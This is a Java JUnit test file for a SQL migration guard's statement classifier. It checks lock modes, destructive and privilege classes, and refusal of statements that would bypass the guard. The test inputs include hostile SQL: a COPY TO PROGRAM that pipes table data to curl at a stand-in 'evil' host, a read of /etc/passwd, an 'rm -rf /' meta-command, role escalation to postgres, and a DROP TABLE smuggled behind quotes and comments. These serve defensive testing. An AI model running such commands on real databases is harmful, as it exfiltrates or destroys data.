package dev.schemaguard.policies.classify;

import dev.schemaguard.tools.lint.LintMigration;
import dev.schemaguard.tools.lint.LintSettings;
import dev.schemaguard.tools.lint.LockMode;
import dev.schemaguard.tools.lint.input.MigrationUnit;
import dev.schemaguard.tools.lint.rules.LintRules;
import dev.schemaguard.tools.sql.SqlSplitter;
import org.junit.jupiter.api.Test;

import java.util.List;

import static dev.schemaguard.policies.classify.ChangeClass.BACKWARD_INCOMPATIBLE;
import static dev.schemaguard.policies.classify.ChangeClass.DATA_LOSS;
import static dev.schemaguard.policies.classify.ChangeClass.DDL;
import static dev.schemaguard.policies.classify.ChangeClass.DESTRUCTIVE;
import static dev.schemaguard.policies.classify.ChangeClass.DML;
import static dev.schemaguard.policies.classify.ChangeClass.LOCKING;
import static dev.schemaguard.policies.classify.ChangeClass.OPAQUE;
import static dev.schemaguard.policies.classify.ChangeClass.PRIVILEGE;
import static dev.schemaguard.policies.classify.ChangeClass.REWRITE;
import static org.assertj.core.api.Assertions.assertThat;

class StatementClassifierTest {

    static List<ClassifiedStatement> classify(String sql) {
        var lint = new LintMigration(LintRules.all(), LintSettings.defaults(), null)
                .lint(List.of(new MigrationUnit("m.sql", 1, sql, true, "plain", "migration")));
        return StatementClassifier.classify(SqlSplitter.split(sql, "m.sql"), lint.findings(), TableSizeLookup.NONE);
    }

    static ClassifiedStatement one(String sql) {
        List<ClassifiedStatement> all = classify(sql);
        assertThat(all).hasSize(1);
        return all.get(0);
    }

    @Test
    void dropColumnIsDestructiveDataLossAndBreaksRunningCode() {
        ClassifiedStatement s = one("ALTER TABLE users DROP COLUMN email;");
        assertThat(s.classes()).contains(DDL, DESTRUCTIVE, DATA_LOSS, BACKWARD_INCOMPATIBLE, LOCKING);
        assertThat(s.lock()).isEqualTo(LockMode.ACCESS_EXCLUSIVE);
        assertThat(s.table()).isEqualTo("public.users");
        assertThat(s.kind()).isEqualTo("alter table");
    }

    @Test
    void weakerLockFormsOfAlterTableAreKnown() {
        assertThat(one("ALTER TABLE orders VALIDATE CONSTRAINT orders_fk;").lock())
                .isEqualTo(LockMode.SHARE_UPDATE_EXCLUSIVE);
        assertThat(one("ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (c) REFERENCES customers (id) NOT VALID;")
                        .lock())
                .isEqualTo(LockMode.SHARE_ROW_EXCLUSIVE);
        // a weak and a strong subcommand together: the strong lock
        assertThat(one("ALTER TABLE orders VALIDATE CONSTRAINT a, ADD COLUMN b int;")
                        .lock())
                .isEqualTo(LockMode.ACCESS_EXCLUSIVE);
        assertThat(one("CREATE INDEX CONCURRENTLY i ON orders (c);").lock()).isEqualTo(LockMode.SHARE_UPDATE_EXCLUSIVE);
        assertThat(one("CREATE INDEX i ON orders (c);").classes()).contains(DDL, LOCKING);
    }

    @Test
    void rowsWrittenAreDmlAndDeletesAreDestructive() {
        assertThat(one("UPDATE orders SET status = 'x' WHERE id = 1;").classes())
                .containsExactlyInAnyOrder(DML);
        assertThat(one("DELETE FROM orders WHERE id = 1;").classes()).contains(DML, DESTRUCTIVE);
        assertThat(one("TRUNCATE orders;").classes()).contains(DML, DESTRUCTIVE, DATA_LOSS);
        assertThat(one("WITH gone AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM gone;")
                        .classes())
                .contains(DML, DESTRUCTIVE);
    }

    @Test
    void privilegeChangesAreTheirOwnClass() {
        assertThat(one("GRANT SELECT ON orders TO reporting;").classes()).contains(PRIVILEGE);
        assertThat(one("ALTER TABLE orders OWNER TO app;").classes()).contains(PRIVILEGE, DDL);
        assertThat(one("CREATE ROLE auditor;").classes()).contains(PRIVILEGE);
        assertThat(one("ALTER TABLE orders ENABLE ROW LEVEL SECURITY;").classes())
                .contains(PRIVILEGE);
    }

    @Test
    void codeWhoseEffectIsUnknownCountsAsEverything() {
        assertThat(one("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$;").classes())
                .contains(OPAQUE, DDL, DML, DESTRUCTIVE);
        assertThat(one("SELECT pg_terminate_backend(pid) FROM pg_stat_activity;")
                        .classes())
                .contains(OPAQUE, DESTRUCTIVE);
        assertThat(one("SELECT count(*) FROM orders WHERE id IN (1, 2);").classes())
                .isEmpty();
    }

    @Test
    void aTableRewriteIsRecognisedFromTheLintFindings() {
        assertThat(one("ALTER TABLE orders ALTER COLUMN total TYPE numeric(12,2);")
                        .classes())
                .contains(REWRITE, DDL);
    }

    @Test
    void whatWouldDefeatTheGuardIsRefusedWhateverThePolicySays() {
        assertThat(classify("CREATE TABLE a (id int); COMMIT; DROP TABLE b;")
                        .get(1)
                        .refusal())
                .contains("transaction control");
        assertThat(one("SET ROLE postgres;").refusal()).contains("role");
        assertThat(one("SET SESSION AUTHORIZATION postgres;").refusal()).isNotNull();
        assertThat(one("RESET ROLE;").refusal()).isNotNull();
        assertThat(one("SET \"session_replication_role\" = replica;").refusal()).contains("session_replication_role");
        assertThat(one("SET standard_conforming_strings = off;").refusal()).isNotNull();
        assertThat(one("COPY orders TO PROGRAM 'curl -d @- http://evil';").refusal())
                .contains("program");
        assertThat(one("COPY orders FROM '/etc/passwd';").refusal()).contains("server file");
        assertThat(one("\\! rm -rf /\n").refusal()).contains("psql meta-command");
        assertThat(one("SET search_path = app, public;").refusal()).isNull();
    }

    @Test
    void aTimeoutIsNotJudgedByItsWordsButByTheValueItLeaves() {
        // what lint recommends (SET lock_timeout) must be appliable; the apply refuses a lifted or raised timeout by
        // effect
        assertThat(one("SET lock_timeout = '2s';").refusal()).isNull();
        assertThat(one("SET LOCAL statement_timeout = 0;").refusal()).isNull();
    }

    @Test
    void aMigrationWrappedInBeginAndCommitIsFine() {
        List<ClassifiedStatement> all = classify("BEGIN;\nCREATE TABLE a (id int);\nCOMMIT;");
        assertThat(all).extracting(ClassifiedStatement::refusal).containsOnlyNulls();
    }

    @Test
    void smuggledStatementsAreEachClassified() {
        List<ClassifiedStatement> all = classify("SELECT 1; DROP TABLE customers;");
        assertThat(all).hasSize(2);
        assertThat(all.get(1).classes()).contains(DESTRUCTIVE, DATA_LOSS);
        List<ClassifiedStatement> hidden = classify("SELECT $x$ ; $x$; /* ; */ DROP TABLE customers -- ;\n;");
        assertThat(hidden).hasSize(2);
        assertThat(hidden.get(1).kind()).isEqualTo("drop table");
    }
}
